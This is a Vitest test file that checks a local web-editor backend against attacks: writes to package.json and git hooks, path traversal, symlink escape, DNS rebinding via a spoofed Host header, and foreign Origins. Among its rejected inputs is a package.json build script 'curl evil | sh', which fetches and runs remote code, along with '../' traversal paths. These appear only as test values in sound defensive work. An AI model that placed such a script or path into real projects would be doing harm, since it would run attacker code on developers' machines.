/**
 * The web editor's local backend over real HTTP, on a throw-away working copy that has what
 * an attacker wants: package.json, scripts, git hooks, and a link out of the content folder.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BackendPortError, startEditorBackend, type EditorBackend } from '../../../src/lib/editor/backend.ts';

const EDITOR = 'http://127.0.0.1:4321';
const PACKAGE = '{ "scripts": { "build": "node scripts/build.ts" } }\n';
let repo: string;
let backend: EditorBackend;

beforeAll(async () => {
  repo = mkdtempSync(join(tmpdir(), 'editor-backend-'));
  for (const dir of ['src/content/offers', 'src/content/courses', 'src/content/services', 'scripts', '.git/hooks']) mkdirSync(join(repo, dir), { recursive: true });
  writeFileSync(join(repo, 'package.json'), PACKAGE);
  writeFileSync(join(repo, 'scripts/build.ts'), 'console.log("build")\n');
  writeFileSync(join(repo, 'src/content/offers/cuoco.md'), '---\ntitle: Cuoco\n---\n');
  symlinkSync(join(repo, 'scripts'), join(repo, 'src/content/offers/collegamento'));
  backend = await startEditorBackend({
    repoDir: repo,
    area: { contentFolders: ['src/content/offers', 'src/content/courses', 'src/content/services'], mediaFolder: 'public/media' },
    port: 0,
    origins: [EDITOR],
  });
});

afterAll(async () => {
  await backend?.close();
  rmSync(repo, { recursive: true, force: true });
});

/** A raw request, so that Host can be anything (fetch does not let a page set it). */
function call(body: unknown, headers: Record<string, string> = {}, method = 'POST'): Promise<{ status: number; headers: Record<string, unknown>; json: unknown }> {
  const data = JSON.stringify(body);
  return new Promise((resolve, reject) => {
    const request = httpRequest({
      host: '127.0.0.1', port: backend.port, path: '/api/v1', method,
      headers: { Host: `127.0.0.1:${backend.port}`, Origin: EDITOR, 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(data ?? ''), ...headers },
    }, (response) => {
      let text = '';
      response.on('data', (chunk: Buffer) => (text += chunk.toString()));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, json: text ? JSON.parse(text) : undefined }));
    });
    request.on('error', reject);
    request.end(method === 'POST' ? data : undefined);
  });
}

const OPTIONS = { commitMessage: 'Modifica', useWorkflow: false, status: 'draft', collectionName: 'offers' };
const persist = (path: string, raw: string, extra: Record<string, unknown> = {}) => ({ action: 'persistEntry', params: { branch: 'main', entry: { slug: 'x', path, raw, ...extra }, assets: [], options: OPTIONS } });

describe('the editor\'s local backend', () => {
  it('saves and lists entries in the content folders for the editor\'s page', async () => {
    const saved = await call(persist('src/content/offers/nuova.md', '---\ntitle: Nuova\n---\n'));
    expect(saved.status, JSON.stringify(saved.json)).toBe(200);
    expect(saved.headers['access-control-allow-origin']).toBe(EDITOR);
    expect(readFileSync(join(repo, 'src/content/offers/nuova.md'), 'utf8')).toContain('Nuova');
    const listed = await call({ action: 'entriesByFolder', params: { branch: 'main', folder: 'src/content/offers', extension: 'md', depth: 1 } });
    expect((listed.json as { file: { path: string } }[]).map((entry) => entry.file.path).sort()).toEqual(['src/content/offers/cuoco.md', 'src/content/offers/nuova.md']);
  });

  it('refuses a write to package.json, and the file is unchanged', async () => {
    for (const body of [
      persist('package.json', '{ "scripts": { "build": "curl evil | sh" } }'),
      persist('src/content/offers/../../../package.json', 'x'),
      persist('src/content/offers/cuoco.md', 'x', { newPath: 'package.json' }),
      { action: 'persistMedia', params: { branch: 'main', asset: { path: 'package.json', content: 'eA==', encoding: 'base64' } } },
      { action: 'deleteFile', params: { branch: 'main', path: 'package.json' } },
    ]) {
      const reply = await call(body);
      expect(reply.status, JSON.stringify(body)).toBeGreaterThanOrEqual(400);
    }
    expect(readFileSync(join(repo, 'package.json'), 'utf8')).toBe(PACKAGE);
    expect(readFileSync(join(repo, 'src/content/offers/cuoco.md'), 'utf8')).toContain('Cuoco');
  });

  it('refuses scripts, git hooks, and a link inside the content folder that leads out of it', async () => {
    expect((await call(persist('.git/hooks/pre-commit.md', '#!/bin/sh'))).status).toBe(403);
    const throughLink = await call(persist('src/content/offers/collegamento/build.md', 'x'));
    expect(throughLink.status).toBe(403);
    expect(throughLink.json).toEqual({ error: expect.stringContaining('fuori dalle cartelle delle schede') });
    expect(existsSync(join(repo, 'scripts/build.md'))).toBe(false);
    expect(existsSync(join(repo, '.git/hooks/pre-commit.md'))).toBe(false);
    const read = await call({ action: 'getEntry', params: { branch: 'main', path: 'scripts/build.ts' } });
    expect(read.status).toBe(403);
    expect(JSON.stringify(read.json)).not.toContain('console.log');
  });

  it('answers only its own name as Host: a page rebound to 127.0.0.1 is refused', async () => {
    const rebound = await call(persist('src/content/offers/rebound.md', 'x'), { Host: `attacker.example:${backend.port}`, Origin: `http://attacker.example:${backend.port}` });
    expect(rebound.status).toBe(421);
    const sameOriginRebound = await call(persist('src/content/offers/rebound.md', 'x'), { Host: `attacker.example:${backend.port}` });
    expect(sameOriginRebound.status).toBe(421);
    expect(existsSync(join(repo, 'src/content/offers/rebound.md'))).toBe(false);
    expect((await call({ action: 'info' }, { Host: `localhost:${backend.port}` })).status).toBe(200);
  });

  it('answers only the editor\'s own page as Origin, preflight included', async () => {
    for (const origin of ['http://localhost:9999', 'http://127.0.0.1:1', 'https://evil.example', 'null']) {
      const reply = await call(persist('src/content/offers/altrove.md', 'x'), { Origin: origin });
      expect(reply.status, origin).toBe(403);
      expect(reply.headers['access-control-allow-origin']).toBeUndefined();
      const preflight = await call(undefined, { Origin: origin, 'Access-Control-Request-Method': 'POST' }, 'OPTIONS');
      expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
    }
    const noOrigin = await call(persist('src/content/offers/altrove.md', 'x'), { Origin: '' });
    expect(noOrigin.status).toBe(403);
    expect(existsSync(join(repo, 'src/content/offers/altrove.md'))).toBe(false);
    const preflight = await call(undefined, { 'Access-Control-Request-Method': 'POST' }, 'OPTIONS');
    expect(preflight.status).toBe(204);
    expect(preflight.headers['access-control-allow-origin']).toBe(EDITOR);
  });

  it('stops with an Italian message when its port is taken', async () => {
    const holder = createServer();
    await new Promise<void>((resolve) => holder.listen(0, '127.0.0.1', resolve));
    const port = (holder.address() as { port: number }).port;
    try {
      const start = startEditorBackend({ repoDir: repo, area: { contentFolders: ['src/content/offers'], mediaFolder: 'public/media' }, port, origins: [EDITOR] });
      await expect(start).rejects.toBeInstanceOf(BackendPortError);
      await expect(start).rejects.toThrow(`la porta ${port} dell'editor locale è già in uso`);
    } finally {
      await new Promise((resolve) => holder.close(resolve));
    }
  });
});
